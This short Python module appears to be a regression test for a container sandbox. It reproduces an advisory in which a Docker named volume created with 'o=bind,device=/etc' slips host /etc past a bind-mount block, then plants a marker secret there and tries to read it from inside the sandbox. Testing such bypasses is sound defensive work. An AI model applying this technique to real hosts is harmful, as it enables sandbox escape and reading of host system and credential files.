"""A named volume with `o=bind,device=/etc` is /etc, though its path is a volume's."""

from bypass import refused

SOURCE = "CVE-2026-27002 / GHSA-w235-x559-36mg"
WAY = "volume"
STOPPED = refused("bind-blocked")


def attack(t):
    secret = t.plant("/etc/secret-" + t.id)
    where = t.host_bind("/etc", "/var/lib/docker/volumes/%s/_data" % t.id)
    t.bind(where, "/x")
    try:
        return t.leaked(t.run("cat /x" + secret[len("/etc"):]))
    finally:
        t.sh("umount %s; rmdir %s /var/lib/docker/volumes/%s" % (where, where, t.id))
